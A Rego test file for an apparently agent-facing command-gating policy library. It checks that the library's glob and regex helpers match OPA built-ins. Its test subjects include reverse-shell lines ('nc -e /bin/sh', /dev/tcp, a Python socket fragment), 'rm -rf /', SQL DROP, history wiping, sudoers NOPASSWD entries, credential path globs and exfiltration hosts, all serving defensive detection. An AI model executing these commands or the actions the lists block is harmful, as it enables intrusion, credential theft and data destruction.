package toolgate.lib_test

import rego.v1

import data.toolgate.lib

# The glob guards must never drop a match: lib.glob_any and lib.path_in_globs agree with a
# plain glob.match over every glob of the list, on globs of every shape.

globs := [
	"*.pastebin.com", "pastebin.com", "a*b*c", "*", "**", "", "foo*", "*foo", "a,b", "a]b", "a}b",
	"a?c", "[ab]x", "x[!a]", "*.[ch]", "{foo,bar}.com", "pre{a,b}suf", "a\\*b", "\\[x]", "x\\", "~/x",
]

subjects := [
	"pastebin.com", "x.pastebin.com", ".pastebin.com", "a.b.pastebin.com", "abc", "axbxc", "ac", "a*b", "*",
	"", "[ab]x", "ax", "bx", "xb", "foo", "xfoo", "foox", "a,b", "a]b", "a}b", "x.c", "x.h", "a?c", "foo.com",
	"bar.com", "preasuf", "prebsuf", "[x]", "~/x", "a.b",
]

plain(list, delimiters, s) if {
	some g in list
	glob.match(g, delimiters, s)
}

agrees(list, delimiters) if {
	want := {s | some s in subjects; plain(list, delimiters, s)}
	got := {s | some s in subjects; lib.glob_any(list, delimiters, s)}
	want == got
}

test_glob_any_each_glob_alone if {
	every g in globs {
		every d in [["."], [], ["/"]] {
			agrees([g], d)
		}
	}
}

test_glob_any_whole_lists if {
	star := [g | some g in globs; not contains(g, "?"); not contains(g, "["); not contains(g, "{"); not contains(g, "\\")]
	lib.star_only(star)
	not lib.star_only(globs)
	every d in [["."], []] {
		agrees(star, d)
		agrees(globs, d)
	}
}

test_glob_any_shipped_collectors if {
	agrees(data.config.bash.data_exfiltration.collector_hosts, ["."])
	lib.glob_any(data.config.bash.data_exfiltration.collector_hosts, ["."], "abc.ngrok.io")
	not lib.glob_any(data.config.bash.data_exfiltration.collector_hosts, ["."], "a.b.ngrok.io")
}

path_globs := [
	"~/.ssh/id_*", "~/.config/**", "/etc/cron.d/**", "~/.netrc", "~", "~/", "/etc/rc*.d/**", "~x/y",
	"/home/*/.ssh/id_*", "~/.config/nvim/init.*", "/etc/[ab]*", "~/{a,b}/**", "~/a\\*",
]

paths := [
	"/home/u/.ssh/id_rsa", "/home/u/.ssh", "/home/u/.config", "/home/u/.config/x/y", "/etc/cron.d", "/etc/cron.d/job",
	"/home/u/.netrc", "/home/u", "/home/u/", "/etc/rc3.d/S01x", "/home/v/.ssh/id_ed25519", "/home/u/.config/nvim/init.lua",
	"/etc/a1", "/home/u/a/k", "/home/u/a*", "/tmp/x", "/", "//.ssh/id_rsa", "/.netrc", "/root/.netrc",
]

# path_matches knows only the configured home; path_in_globs also reads the home-relative
# globs in other accounts' homes (test_path_in_globs_other_homes): those paths are left out here.
path_agrees(home, list) if {
	own := [p | some p in paths; not other_home(p, home)]
	want := {p | some p in own; lib.path_matches({"path": p}, lib.compile_globs(list)) with input.context.home as home}
	got := {p | some p in own; lib.path_in_globs({"path": p}, list) with input.context.home as home}
	want == got
}

other_home(p, home) if _ = lib.other_home_form(p) with input.context.home as home

test_path_in_globs_other_homes if {
	lib.path_in_globs({"path": "/Users/dev/Library/Keychains/login.keychain-db"}, ["~/Library/Keychains/**"]) with input.context.home as "/home/dev"
	lib.path_in_globs({"path": "/home/alice/.ssh/id_rsa"}, ["~/.ssh/id_*"]) with input.context.home as "/home/dev"
	lib.path_in_globs({"path": "/root/.netrc"}, ["~/.netrc"]) with input.context.home as "/home/dev"
	lib.path_in_globs({"path": "/home/alice/.ssh"}, ["~/.ssh/**"]) with input.context.home as "/home/dev"
	not lib.path_in_globs({"path": "/home/alice/notes/id_rsa.txt"}, ["~/.ssh/id_*"]) with input.context.home as "/home/dev"
	not lib.path_in_globs({"path": "/home/alice"}, ["~/.ssh/**"]) with input.context.home as "/home/dev"
}

# path_matches(p, compile_globs(list)) tests each glob's text before its first *, ? or [ as a
# prefix, so it never matched a glob with {a,b} or an escape before that: path_in_globs
# follows glob.match there (see test_path_in_globs_braces_and_escapes).
test_path_in_globs_agrees_with_path_matches if {
	plain_globs := [g | some g in path_globs; not contains(g, "{"); not contains(g, "\\")]
	every home in ["/home/u", "/home/u/", "/", "", "/root", "/home/*"] {
		every g in plain_globs {
			path_agrees(home, [g])
		}
		path_agrees(home, plain_globs)
	}
}

test_path_in_globs_without_home if {
	want := {p | some p in paths; lib.path_matches({"path": p}, lib.compile_globs(path_globs)) with input.context as {}}
	got := {p | some p in paths; lib.path_in_globs({"path": p}, path_globs) with input.context as {}}
	want == got
	"/etc/cron.d/job" in got
}

test_path_in_globs_braces_and_escapes if {
	lib.path_in_globs({"path": "/home/u/a/k"}, ["~/{a,b}/**"]) with input.context.home as "/home/u"
	lib.path_in_globs({"path": "/home/u/b/k"}, ["~/{a,b}/**"]) with input.context.home as "/home/u"
	not lib.path_in_globs({"path": "/home/u/c/k"}, ["~/{a,b}/**"]) with input.context.home as "/home/u"
	lib.path_in_globs({"path": "/home/u/a*"}, ["~/a\\*"]) with input.context.home as "/home/u"
	not lib.path_in_globs({"path": "/home/u/ab"}, ["~/a\\*"]) with input.context.home as "/home/u"
}

test_path_in_globs_shipped_lists if {
	every home in ["/home/u", "/root"] {
		every _, list in data.config.paths.sensitive_writes {
			path_agrees(home, list)
		}
		path_agrees(home, data.config.paths.credential_globs)
	}
}

# lib.regex_match agrees with regex.match, hinted or not, on subjects that match and that do not,
# in any case, and with the characters that case-insensitive matching folds beyond lower().
regex_subjects := [
	"psql -c 'DROP TABLE users'", "psql -c 'drop table users'", "redis-cli FLUSHALL", "redis-cli FLU\u017fHALL",
	"mysql -e 'UPDATE t SET a=1'", "mysql -e 'update t set a=1 where id=2'", "db.users.deleteMany({})", "ls -la",
	"HISTFILE=/dev/null", "unset HISTFILE", "export HISTSIZE=0", "echo hi", "nc -e /bin/sh 10.0.0.1 4444",
	"python -c 'import socket,subprocess,os;s=socket.socket()'", "/dev/tcp/10.0.0.1/4444", "/dev/sda", "/dev/null",
	"CAP_SYS_ADMIN+ep", "cap_setuid+ep", "ALL=(ALL) NOPASSWD: ALL", "rm -rf /", "delete-bucket", "s3 rb", "get-object",
	"\u212aill", "git+https://x/y", "registry=https://evil", "GOSUMDB=off", "GOFLAGS=-insecure", "curl.sh", "install.sh",
	"while true; do :; done", "for ((;;))", "tcp-listen:4444", "TCP4-LISTEN:1", "fs.rmSync(p)", "shutil.rmtree(p)",
	"psql -c 'DROP TABLE ÄÖÜ'", "psql -c 'İDROP TABLE x'", "éé UPDATE t SET x=1",
]

# In groups: the WASM runtime fails an evaluation that compiles more than about a hundred
# distinct regexes (see lib.regex_match_fitting), and every test is one evaluation.
hinted := [pattern | some pattern, hints in data.config.regex_hints; count(hints) > 0]

split := [pattern | some pattern, _ in data.config.regex_alternatives]

hinted_agree(k) if {
	every i, pattern in hinted {
		hinted_agrees(i, k, pattern)
	}
}

hinted_agrees(i, k, _) if i % 6 != k

hinted_agrees(i, k, pattern) if {
	i % 6 == k
	every s in regex_subjects {
		regex.match(pattern, s) == is_match(pattern, s)
	}
}

test_regex_match_agrees_with_regex_match_0 if hinted_agree(0)

test_regex_match_agrees_with_regex_match_1 if hinted_agree(1)

test_regex_match_agrees_with_regex_match_2 if hinted_agree(2)

test_regex_match_agrees_with_regex_match_3 if hinted_agree(3)

test_regex_match_agrees_with_regex_match_4 if hinted_agree(4)

test_regex_match_agrees_with_regex_match_5 if hinted_agree(5)

# The patterns split into alternatives (in 16 slices: a slice of 8 compiles over a hundred
# distinct regexes in one evaluation, and OPA's WASM regex cache then frees one still in use:
# docs/benchmarks.md, seventh round): the pattern matches exactly when one of its parts
# does, and lib.regex_match agrees with it (one part fits, several, none).
split_agree(k) if {
	every i, pattern in split {
		split_agrees(i, k, pattern)
	}
}

split_agrees(i, k, _) if i % 16 != k

split_agrees(i, k, pattern) if {
	i % 16 == k
	parts := data.config.regex_alternatives[pattern]
	count(parts) > 1
	every s in regex_subjects {
		regex.match(pattern, s) == part_matches(parts, s)
		regex.match(pattern, s) == is_match(pattern, s)
	}
}

part_matches(parts, s) if {
	some part in parts
	regex.match(part.regex, s)
}

else := false

test_regex_alternatives_agree_0 if split_agree(0)

test_regex_alternatives_agree_1 if split_agree(1)

test_regex_alternatives_agree_2 if split_agree(2)

test_regex_alternatives_agree_3 if split_agree(3)

test_regex_alternatives_agree_4 if split_agree(4)

test_regex_alternatives_agree_5 if split_agree(5)

test_regex_alternatives_agree_6 if split_agree(6)

test_regex_alternatives_agree_7 if split_agree(7)

test_regex_alternatives_agree_8 if split_agree(8)

test_regex_alternatives_agree_9 if split_agree(9)

test_regex_alternatives_agree_10 if split_agree(10)

test_regex_alternatives_agree_11 if split_agree(11)

test_regex_alternatives_agree_12 if split_agree(12)

test_regex_alternatives_agree_13 if split_agree(13)

test_regex_alternatives_agree_14 if split_agree(14)

test_regex_alternatives_agree_15 if split_agree(15)

test_regex_alternatives_one_part_or_the_whole if {
	pattern := data.config.bash.reverse_shell.socket_code_pattern
	lib.regex_match(pattern, "s=socket.socket()")
	lib.regex_match(pattern, "fsockopen('h', 1); TCPSocket.open")
	not lib.regex_match(pattern, "print('sockets are fun')")
}

is_match(pattern, s) if lib.regex_match(pattern, s)

else := false

test_regex_match_hints_skip_only_non_matches if {
	pattern := data.config.bash.destructive_db.destructive_sql_pattern
	lib.regex_match(pattern, "psql -c 'DROP TABLE users'")
	not lib.regex_match(pattern, "psql -c 'select 1'")
	not lib.may_match(data.config.regex_hints[pattern], "psql -c 'select 1'")
	lib.regex_match(`^[0-9]+$`, "42")
}

test_regex_match_without_hints_in_data if {
	lib.regex_match(`(?i)\bdrop\b`, "DROP TABLE x") with data.config as {}
	lib.regex_match(`(?i)\bdrop\b`, "DROP TABLE x") with data.config.regex_hints as null
	not lib.regex_match(`(?i)\bdrop\b`, "select 1") with data.config as {}
}

# The string built-ins that replaced small hint-less regexes say exactly what the regexes said.
regex_free_subjects := [
	"", "0", "7", "123", "12a", "a12", " 1", "1 ", "-1", "1-2", "10-200", "1-", "-2", "1-2-3", "a-1",
	"/24", "/", "0x", "x0", "١٢", "1e3", "1.5", "./a", "~/x.y", "a_b-c", "a b", "a=b", "é.x", "a/b",
	"10.0.0.0/24", "@x", ".", "..",
]

test_digits_is_the_regex if {
	{s | some s in regex_free_subjects; lib.digits(s)} == {s | some s in regex_free_subjects; regex.match(`^[0-9]+$`, s)}
}

test_digit_range_is_the_regex if {
	{s | some s in regex_free_subjects; lib.digit_range(s)} == {s | some s in regex_free_subjects; regex.match(`^[0-9]+-[0-9]+$`, s)}
}

test_starts_with_one_of_is_the_regex if {
	{s | some s in regex_free_subjects; lib.starts_with_one_of(s, "0123456789/")} == {s | some s in regex_free_subjects; regex.match(`^[0-9/]`, s)}
}

test_word_path_chars_is_the_regex if {
	{s | some s in regex_free_subjects; lib.only_chars(s, lib.word_path_chars)} == {s | some s in regex_free_subjects; regex.match(`^[\w./~-]+$`, s)}
}

test_arg_matches_exact_prefix_contains_suffix if {
	lib.arg_matches("-F", "-F")
	lib.arg_matches("--vacuum-time*", "--vacuum-time=1s")
	lib.arg_matches("*login item*", "tell application \"System Events\" to make login item at end")
	lib.arg_matches("*\\RunOnce", "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce")
	lib.arg_matches("*CurrentVersion\\Run*", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")
	not lib.arg_matches("*\\Run", "HKCU\\Software\\Runner")
	not lib.arg_matches("*hist*", "git")
	not lib.arg_matches("-F", "-Fx")
}
